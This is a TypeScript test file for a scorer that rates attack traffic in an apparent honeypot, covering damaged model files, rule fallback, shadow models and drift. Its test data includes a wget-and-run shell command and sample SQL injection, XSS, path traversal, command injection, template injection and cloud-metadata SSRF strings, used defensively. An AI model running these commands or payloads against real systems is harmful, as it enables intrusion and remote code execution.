import assert from 'node:assert/strict';
import { copyFileSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it, type TestContext } from 'node:test';
import { createDrift, distanceOf } from '../../src/score/drift.ts';
import { openLocalScorer } from '../../src/score/local.ts';
import { createComparison } from '../../src/score/shadow.ts';
import { openShellModel } from '../../src/score/shell/index.ts';
import { ask, command, draft, request } from '../support/score/events.ts';

const shipped = join(import.meta.dirname, '..', '..', 'src', 'score');

/** A folder with copies of both models. */
function modelFolder(t: TestContext): string {
  const folder = mkdtempSync(join(tmpdir(), 'decoyverse-models-'));
  t.after(() => rmSync(folder, { recursive: true, force: true }));
  for (const name of ['payload', 'shell'])
    copyFileSync(join(shipped, name, 'model.bin'), join(folder, `${name}.bin`));
  return folder;
}

const line = ask(command('cd /tmp; wget http://198.51.100.7/x; sh x'));

describe('model files', () => {
  it('that are whole are opened, and the version names them', (t) => {
    const warnings: string[] = [];
    const scorer = openLocalScorer({ modelFolder: modelFolder(t), onWarning: (w) => warnings.push(w) });
    assert.deepEqual(warnings, []);
    assert.equal(scorer.name, 'local');
    assert.match(scorer.version, /^\d{4}\.\d+\.\d+\+p.+\+s.+$/);
    assert.equal(scorer.judge(line).scored_by, 'local');
  });

  const damage: Record<string, (bytes: Buffer) => Buffer> = {
    'cut short': (bytes) => bytes.subarray(0, bytes.length - 100),
    'with one byte changed': (bytes) => {
      const copy = Buffer.from(bytes);
      copy[copy.length - 5000]! ^= 1;
      return copy;
    },
    empty: () => Buffer.alloc(0),
    'of something else': () => Buffer.from('{"magic":"other"}\nxxxx'),
    'of random bytes': () => Buffer.from('\u0000\u0001\u0002\n\u0003', 'latin1'),
    'trained for other features': (bytes) => {
      const end = bytes.indexOf(10);
      const header = JSON.parse(bytes.subarray(0, end).toString()) as { features: string };
      header.features = 'other';
      return Buffer.concat([Buffer.from(`${JSON.stringify(header)}\n`), bytes.subarray(end + 1)]);
    },
  };
  for (const name of ['shell', 'payload'])
    for (const [how, change] of Object.entries(damage))
      it(`${how} (${name}) are rejected with a sentence, and the rules go on alone`, (t) => {
        const folder = modelFolder(t);
        const file = join(folder, `${name}.bin`);
        writeFileSync(file, change(readFileSync(file)));
        const warnings: string[] = [];
        const scorer = openLocalScorer({ modelFolder: folder, onWarning: (w) => warnings.push(w) });
        assert.equal(warnings.length, 1);
        assert.match(warnings[0]!, /rejected, so only the rules are used: \S/);
        assert.equal(scorer.name, 'rules');
        const verdict = scorer.judge(line);
        assert.equal(verdict.scored_by, 'rules');
        assert.ok(verdict.risk_score >= 8);
      });

  it('that are missing are rejected too', () => {
    const warnings: string[] = [];
    const scorer = openLocalScorer({ modelFolder: '/nowhere', onWarning: (w) => warnings.push(w) });
    assert.equal(scorer.name, 'rules');
    assert.equal(warnings.length, 1);
  });

  const plain: readonly (readonly [string, string, string])[] = [
    ['SqlInjection', 'id=1 union select 1,2,3 from users--', 'the union will select a new chair'],
    ['SqlInjection', 'GET /?id=1%27%20or%20%271%27=%271 HTTP/1.1', 'GET /?q=rock%27n%27roll HTTP/1.1'],
    ['CrossSiteScripting', 'q=<script>alert(1)</script>', 'q=a script for the stage'],
    ['PathTraversal', 'GET /../../../../etc/passwd HTTP/1.1', 'GET /a/../b HTTP/1.1'],
    ['CommandInjection', 'x=1;cat /etc/hostname', 'x=1; catalogue'],
    ['TemplateInjection', 'name={{7*7}}', 'name={{name}}'],
    [
      'ServerSideRequestForgery',
      'GET /?u=http://169.254.169.254/latest HTTP/1.1',
      'GET /?u=http://a.example/ HTTP/1.1',
    ],
  ];
  for (const [type, attack, like] of plain)
    it(`that are missing leave no ${type} in its plainest form unseen: ${attack}`, () => {
      const scorer = openLocalScorer({ modelFolder: '/nowhere' });
      const { attack_type, risk_score } = scorer.judge(ask(request(attack)));
      assert.equal(attack_type, type);
      assert.ok(risk_score >= 8, 'an alert');
      assert.ok(scorer.judge(ask(request(like))).risk_score < 5, like);
    });

  it('stay small', () => {
    assert.ok(openShellModel().sizeBytes < 1024 * 1024);
  });
});

describe('a model in shadow', () => {
  it('changes no verdict and is counted', (t) => {
    const folder = modelFolder(t);
    const alone = openLocalScorer({ onWarning: assert.fail });
    const both = openLocalScorer({ shadowFolder: folder, onWarning: assert.fail });
    assert.deepEqual(both.judge(line), alone.judge(line));
    const counters = both.counters();
    assert.equal(counters.shadow_events, 1);
    assert.equal(counters.shadow_same_risk, 1);
    assert.equal(alone.counters().shadow_events, undefined);
  });

  it('that is damaged is ignored with a warning', () => {
    const warnings: string[] = [];
    const scorer = openLocalScorer({ shadowFolder: '/nowhere', onWarning: (w) => warnings.push(w) });
    assert.equal(scorer.name, 'local');
    assert.match(warnings[0]!, /shadow model was rejected/);
  });

  it('is compared by risk, by class and by the alerts it would make', () => {
    const scorer = openLocalScorer({ onWarning: assert.fail });
    const verdict = scorer.judge(line);
    const comparison = createComparison();
    comparison.add({ ...verdict, risk_score: 8 }, { ...verdict, risk_score: 6, attack_type: 'Recon' });
    comparison.add({ ...verdict, risk_score: 5 }, { ...verdict, risk_score: 9 });
    comparison.add(verdict, verdict);
    assert.deepEqual(comparison.counters(), {
      shadow_events: 3,
      shadow_same_risk: 1,
      shadow_same_type: 2,
      shadow_more_alerts: 1,
      shadow_fewer_alerts: 1,
      shadow_risk_higher: 1,
      shadow_risk_lower: 1,
      shadow_risk_difference: 6,
    });
  });
});

describe('drift', () => {
  it('grows with words that training never saw', () => {
    const share = (text: string): number => {
      const scorer = openLocalScorer({ onWarning: assert.fail });
      scorer.judge(ask(command(text)));
      return scorer.counters().drift_command_unknown_share!;
    };
    assert.ok(share('zqxjkv wqzzy plorf vrumpt') > share('cat /proc/cpuinfo | grep name'));
  });

  it('counts verdicts by risk', () => {
    const scorer = openLocalScorer({ onWarning: assert.fail });
    const { risk_score } = scorer.judge(ask(draft('connection.opened')));
    assert.equal(scorer.counters()[`scored_risk_${risk_score}`], 1);
  });

  it('measures how far scores have moved from training, once there are enough', () => {
    const even = new Array<number>(10).fill(0.1);
    const drift = createDrift(even);
    drift.command(0.95, 0);
    assert.equal(drift.counters().drift_command_score_distance, 0);
    for (let at = 0; at < 200; at += 1) drift.command(0.95, 0);
    assert.ok(Math.abs(drift.counters().drift_command_score_distance! - 0.9) < 1e-9);
    assert.equal(distanceOf([5, 5, 5, 5, 5, 5, 5, 5, 5, 5], even), 0);
    assert.equal(distanceOf([], even), 0);
  });
});
